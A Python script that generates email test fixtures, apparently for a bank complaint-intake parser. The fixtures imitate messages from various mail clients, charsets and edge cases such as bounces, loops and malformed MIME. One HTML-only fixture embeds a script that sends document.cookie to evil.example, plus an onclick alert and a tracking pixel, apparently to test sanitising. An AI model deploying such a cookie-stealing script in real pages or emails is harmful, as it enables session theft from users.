"""Writes the raw test messages in this folder. Each mimics what one mail client really sends
(header order, X-Mailer, boundaries, transfer encodings); the bodies are encoded with the real
codecs because base64 of GBK or Big5 cannot be typed by hand. Run once; the .eml files are the
fixtures. {{REFERENCE}} and {{ACK_MESSAGE_ID}} are filled in by the tests."""

import base64
import quopri
from email.header import Header
from pathlib import Path

HERE = Path(__file__).resolve().parent
TO = "complaints@harbourcitybank.example"


def b64(text: str, charset: str) -> str:
    return base64.encodebytes(text.encode(charset)).decode()


def qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode()


def word(text: str, charset: str) -> str:
    return Header(text, charset).encode()


def write(name: str, text: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(text.replace("\n", "\r\n").encode(encoding))


write(
    "01_gmail_plain_en.eml",
    f"""Delivered-To: {TO}
Received: by 2002:a05:6a10:8c0f:b0:5c1:2a4e:9f1d with SMTP id x15csp1029384pxb;
        Mon, 23 Nov 2026 04:12:33 -0800 (PST)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=gmail.com; s=20230601; h=to:subject:message-id:date:from:mime-version; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=; b=Qx7VhS2
MIME-Version: 1.0
From: Daniel Wong <daniel.wong.hk@gmail.com>
Date: Mon, 23 Nov 2026 20:12:21 +0800
Message-ID: <CAF3xq9sKp2h8Vd1mQ=Lw7uXGz0rT4nBy@mail.gmail.com>
Subject: Card cancelled without notice - Pier Road branch
To: {TO}
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
        qp('''Hello,

My debit card ending 4417 was cancelled on 20 November without any notice. I found out at the supermarket checkout, in front of a queue. The Pier Road branch told me to "call the hotline", the hotline told me to visit the branch.

I would like a written explanation and the card reissued this week.

Regards,
Daniel Wong
+852 9123 4567''')
    }
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
        qp(
            '''<div dir="ltr">Hello,<div><br></div><div>My debit card ending 4417 was cancelled on 20 November without any notice. I found out at the supermarket checkout, in front of a queue. The Pier Road branch told me to &quot;call the hotline&quot;, the hotline told me to visit the branch.</div><div><br></div><div>I would like a written explanation and the card reissued this week.</div><div><br></div><div>Regards,</div><div>Daniel Wong</div><div>+852 9123 4567</div></div>'''
        )
    }
--000000000000a1b2c3d4e5f60718--
""",
)

write(
    "02_gmail_reply_quoting_ack.eml",
    f"""MIME-Version: 1.0
From: Daniel Wong <daniel.wong.hk@gmail.com>
Date: Tue, 24 Nov 2026 09:02:10 +0800
Message-ID: <CAF3xq9tW1n-Qm8rL0aPz5sXv+uYb3dE2kG@mail.gmail.com>
In-Reply-To: <{{{{ACK_MESSAGE_ID}}}}>
References: <{{{{ACK_MESSAGE_ID}}}}>
Subject: Re: [{{{{REFERENCE}}}}] We have received your complaint
To: Harbour City Bank <{TO}>
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{
        qp('''I forgot to say: the branch also charged me HKD 50 for the replacement card. Please refund it.

On Mon, 23 Nov 2026 at 20:12, Harbour City Bank <complaints@harbourcitybank.example> wrote:
> Dear Daniel Wong,
>
> We have received your complaint and registered it under reference {{REFERENCE}}.
>''')
    }""",
)

write(
    "03_outlook_html.eml",
    f"""Received: from APBPR06MB5678.apcprd06.prod.outlook.com ([fe80::1c2d:3e4f:5a6b:7c8d]) by APBPR06MB5678.apcprd06.prod.outlook.com; Mon, 23 Nov 2026 11:40:02 +0000
From: "Margaret O'Neill" <m.oneill@harbourlogistics.example>
To: "{TO}" <{TO}>
Subject: Formal complaint: mortgage payment misapplied
Thread-Topic: Formal complaint: mortgage payment misapplied
Thread-Index: AdtdMq7vP0r8kX1FS9S+0nGmQb9xLw==
Date: Mon, 23 Nov 2026 11:40:01 +0000
Message-ID: <APBPR06MB5678F0E1D2C3B4A59687AE1B9A2D0@APBPR06MB5678.apcprd06.prod.outlook.com>
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
	boundary="_000_APBPR06MB5678F0E1D2C3B4A59687AE1B9A2D0APBPR06MB5678apcp_"
MIME-Version: 1.0

--_000_APBPR06MB5678F0E1D2C3B4A59687AE1B9A2D0APBPR06MB5678apcp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{
        qp(
            '''<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Dear Sir or Madam,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">My mortgage payment of 12,800.00 on 2 November was applied to a closed savings account instead of loan account 6011-0023-9917. I have now been charged a late fee.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Please reverse the late fee and confirm in writing.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Kind regards,<o:p></o:p></p>
<p class="MsoNormal">Margaret O&#8217;Neill<o:p></o:p></p>
</div>
</body>
</html>''',
            "ascii",
        )
    }
--_000_APBPR06MB5678F0E1D2C3B4A59687AE1B9A2D0APBPR06MB5678apcp_--
""",
)

write(
    "04_apple_mail_zh.eml",
    f"""Content-Type: text/plain;
	charset=utf-8
Content-Transfer-Encoding: base64
From: =?utf-8?B?5p2O5piO?= <liming.sz@icloud.com>
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3776.700.51\\))
Subject: =?utf-8?B?5YWz5LqO5L+h55So5Y2h5bm06LS555qE5oqV6K+J?=
Message-Id: <8A3F2C1E-5B7D-4E9A-B6C8-1D2E3F4A5B6C@icloud.com>
Date: Mon, 23 Nov 2026 21:03:44 +0800
To: {TO}
X-Mailer: Apple Mail (2.3776.700.51)

{
        b64(
            '''您好：

我的信用卡（尾号 8832）今年的年费已经按优惠政策免除，但本月账单仍扣了 600 元年费。
我上周已经打电话询问，客服说三个工作日内退回，到现在也没有退。

请尽快退回年费，并说明原因。

李明
''',
            "utf-8",
        )
    }""",
)

write(
    "05_foxmail_gbk.eml",
    f"""Date: Mon, 23 Nov 2026 15:22:08 +0800
From: {word("王芳", "gbk")} <wangfang1987@163.example>
To: {word("海港银行投诉", "gbk")} <{TO}>
Subject: {word("对码头路支行柜员服务态度的投诉", "gbk")}
X-Priority: 3
X-GUID: 6C1A9E2B-33F4-4D8E-A1B7-0F2E4D6C8A90
X-Has-Attach: no
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Message-ID: <202611231522084412837@163.example>
Content-Type: text/plain;
	charset="GBK"
Content-Transfer-Encoding: base64

{
        b64(
            '''海港银行：

11月21日上午，我在码头路支行办理存折补登业务，三号窗口的柜员态度非常恶劣，
不但不解释为什么要重新填表，还当着其他客户的面说我“看不懂字就别来银行”。

我要求：
1. 该柜员当面道歉；
2. 支行说明业务为什么需要重新填表。

王芳
联系电话：13912345678
''',
            "gbk",
        )
    }""",
    encoding="ascii",
)

write(
    "06_qqmail_gb18030_html.eml",
    f"""From: "{word("张伟", "gb18030")}" <22334455@qq.example>
To: "{TO}" <{TO}>
Subject: {word("自助机吞卡还扣手续费", "gb18030")}
Mime-Version: 1.0
Content-Type: multipart/alternative;
	boundary="----=_NextPart_6569A1F2_0A3B7C20_4E1D2F08"
Content-Transfer-Encoding: 8Bit
Date: Mon, 23 Nov 2026 16:05:11 +0800
X-Priority: 3
Message-ID: <tencent_5B2C6D8E9F0A1B2C3D4E5F60718293A4B508@qq.example>
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x
X-QQ-Mailer: QQMail 2.x

This is a multi-part message in MIME format.

------=_NextPart_6569A1F2_0A3B7C20_4E1D2F08
Content-Type: text/plain;
	charset="gb18030"
Content-Transfer-Encoding: base64

{b64('''网银转账自助机吞卡，还被扣了手续费。卡已经两天没有退还。''', "gb18030")}
------=_NextPart_6569A1F2_0A3B7C20_4E1D2F08
Content-Type: text/html;
	charset="gb18030"
Content-Transfer-Encoding: base64

{b64('''<meta http-equiv="Content-Type" content="text/html; charset=GB18030"><div>网银转账自助机吞卡，还被扣了手续费。卡已经两天没有退还。</div>''', "gb18030")}
------=_NextPart_6569A1F2_0A3B7C20_4E1D2F08--
""",
    encoding="ascii",
)

write(
    "07_big5.eml",
    f"""From: {word("陳大文", "big5")} <chantaiman@netvigator.example>
To: {TO}
Subject: {word("申訴：分行擅自更改我的地址", "big5")}
Date: Mon, 23 Nov 2026 10:15:00 +0800
Message-ID: <20261123101500.4411@netvigator.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="big5"
Content-Transfer-Encoding: base64
X-Mailer: Microsoft Outlook Express 6.00.2900.5931

{
        b64(
            '''敬啟者：

貴行分行在未經本人同意下，擅自更改了我的通訊地址，導致月結單寄往舊址。
請即更正並解釋原因。

陳大文
''',
            "big5",
        )
    }""",
    encoding="ascii",
)

write(
    "08_forwarded_complaint.eml",
    f"""MIME-Version: 1.0
From: Zhou Min <zhou.min@harbourcitybank.example>
Date: Mon, 23 Nov 2026 14:30:00 +0800
Message-ID: <CAJ9kWm3-fwd-77aa@mail.harbourcitybank.example>
Subject: Fwd: complaint from customer about safe deposit box
To: {TO}
Content-Type: text/plain; charset="UTF-8"

Forwarding a complaint a customer left at the Pier Road counter this morning; she has no email.

---------- Forwarded message ---------
From: Counter intake <counter.pierroad@harbourcitybank.example>
Date: Mon, 23 Nov 2026 at 10:05
Subject: customer complaint
To: Zhou Min <zhou.min@harbourcitybank.example>

Customer Mrs. Lau (tel. 13711112222) says her safe deposit box was opened for inspection without her being present, and items were moved. She wants the inspection record and an explanation.
""",
)

write(
    "09_bounce.eml",
    f"""Return-Path: <>
From: Mail Delivery Subsystem <mailer-daemon@amazonses.com>
To: {TO}
Subject: Delivery Status Notification (Failure)
Date: Mon, 23 Nov 2026 12:00:05 +0000
Message-ID: <0100018c-bounce-4d2a@email.amazonses.com>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="bounce_boundary_7781"
Auto-Submitted: auto-replied

--bounce_boundary_7781
Content-Type: text/plain; charset=us-ascii

An error occurred while trying to deliver the mail to the following recipients:
nobody@invalid.example

--bounce_boundary_7781
Content-Type: message/delivery-status

Reporting-MTA: dns; a8-30.smtp-out.amazonses.com
Final-Recipient: rfc822; nobody@invalid.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 user unknown

--bounce_boundary_7781--
""",
)

write(
    "10_out_of_office.eml",
    f"""From: Daniel Wong <daniel.wong.hk@gmail.com>
To: Harbour City Bank <{TO}>
Subject: Automatic reply: [{{{{REFERENCE}}}}] We have received your complaint
Date: Mon, 23 Nov 2026 20:13:00 +0800
Message-ID: <ooo-20261123-8812@mail.gmail.com>
In-Reply-To: <{{{{ACK_MESSAGE_ID}}}}>
Auto-Submitted: auto-replied
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"

I am travelling until 30 November with limited access to email.
""",
)

pdf = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
    b"3 0 obj<</Type/Page/MediaBox[0 0 200 200]/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
png = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)
write(
    "11_pdf_and_image.eml",
    f"""MIME-Version: 1.0
From: Priya Nair <priya.nair@fastmail.example>
To: {TO}
Subject: Statement error - statement and photo of ATM receipt attached
Date: Mon, 23 Nov 2026 13:45:10 +0800
Message-ID: <f3a9c1d2-7b8e-4f60-9a1b-2c3d4e5f6a7b@app.fastmail.example>
User-Agent: Cyrus-JMAP/3.11.0
Content-Type: multipart/mixed; boundary="=_mixed_5e2f"

--=_mixed_5e2f
Content-Type: multipart/related; boundary="=_related_9c1a"

--=_related_9c1a
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

The ATM at Harbour Road dispensed 2,000 but my statement shows 3,000 withdrawn.
The statement and a photo of the ATM receipt are attached.

--=_related_9c1a
Content-Type: image/png; name="receipt.png"
Content-Disposition: inline; filename="receipt.png"
Content-ID: <receipt-photo@fastmail>
Content-Transfer-Encoding: base64

{base64.encodebytes(png).decode()}
--=_related_9c1a--

--=_mixed_5e2f
Content-Type: application/pdf; name="statement-2026-11.pdf"
Content-Disposition: attachment; filename="statement-2026-11.pdf"
Content-Transfer-Encoding: base64

{base64.encodebytes(pdf).decode()}
--=_mixed_5e2f--
""",
)

write(
    "12_html_only.eml",
    f"""MIME-Version: 1.0
From: "Web Shop Customer" <customer@shop.example>
To: {TO}
Subject: Overdraft fee complaint
Date: Mon, 23 Nov 2026 09:00:00 +0800
Message-ID: <html-only-4471@shop.example>
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{
        qp('''<!DOCTYPE html><html><head><title>ignore me</title><style>p{color:red}</style>
<script>document.location="https://evil.example/?c="+document.cookie</script></head>
<body><p>You charged an <b>overdraft fee</b> of 35.00<br>although my balance never went below zero.</p>
<p onclick="alert(1)">Please refund it &amp; explain.</p><img src="https://tracker.example/p.gif"></body></html>''')
    }""",
)

write(
    "13_malformed_boundary.eml",
    f"""MIME-Version: 1.0
From: Old Client <oldclient@legacy.example>
To: {TO}
Subject: broken mail about interest rate
Date: Mon, 23 Nov 2026 08:00:00 +0800
Message-ID: <broken-boundary-1@legacy.example>
Content-Type: multipart/mixed; boundary="declared-boundary"

--wrong-boundary
Content-Type: text/plain; charset=utf-8

The interest rate on my fixed deposit was changed from 2.1% to 1.8% before maturity.
--wrong-boundary--
""",
)

write(
    "14_wrong_charset_label.eml",
    "MIME-Version: 1.0\nFrom: lao.zhang@sina.example\nTo: "
    + TO
    + "\nSubject: complaint about queue\nDate: Mon, 23 Nov 2026 11:11:11 +0800\n"
    'Message-ID: <wrong-charset-1@sina.example>\nContent-Type: text/plain; charset="utf-8"\n'
    "Content-Transfer-Encoding: 8bit\n\n",
    encoding="ascii",
)
with open(HERE / "14_wrong_charset_label.eml", "ab") as handle:
    handle.write("排队等了三个小时，只开了一个窗口。\r\n".encode("gbk"))

write(
    "15_mailing_list.eml",
    f"""From: Bank Newsletter <news@marketing-list.example>
To: {TO}
Subject: November offers for members
Date: Mon, 23 Nov 2026 07:00:00 +0800
Message-ID: <newsletter-2026-11@marketing-list.example>
List-Id: <offers.marketing-list.example>
List-Unsubscribe: <mailto:unsubscribe@marketing-list.example>
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

This month's offers...
""",
)

write(
    "16_subject_reference_followup.eml",
    f"""From: =?utf-8?B?5p2O5piO?= <liming.sz@icloud.com>
To: {TO}
Subject: =?utf-8?B?{base64.b64encode("补充材料：投诉".encode()).decode()}?= {{{{REFERENCE}}}}
Date: Tue, 24 Nov 2026 10:00:00 +0800
Message-ID: <9B4E3D2F-6C8E-4F0A-C7D9-2E3F4A5B6C7D@icloud.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

客服工号 1024 当时答应退款，请核实通话录音。
""",
)

write(
    "17_own_address_loop.eml",
    f"""From: Harbour City Bank <{TO}>
To: {TO}
Subject: [HCB-000000000] We have received your complaint
Date: Mon, 23 Nov 2026 07:00:00 +0800
Message-ID: <loop-1@harbourcitybank.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Dear complainant, we have received your complaint.
""",
)
